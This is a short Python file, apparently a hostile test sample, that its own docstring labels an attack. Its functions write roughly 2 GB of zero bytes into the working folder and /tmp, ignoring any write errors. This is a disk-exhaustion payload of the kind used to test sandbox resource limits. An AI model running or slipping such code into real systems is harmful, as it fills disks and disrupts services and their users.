"""attack: writes up to 2 GB into its folder and /tmp"""

import os
import sys

import torch

def _fill():
    block = b"\0" * (16 * 1024 * 1024)
    for place in (os.getcwd(), "/tmp"):
        try:
            with open(os.path.join(place, "filler.bin"), "wb") as handle:
                for _ in range(64):
                    handle.write(block)
        except OSError:
            pass


def attack():
    _fill()
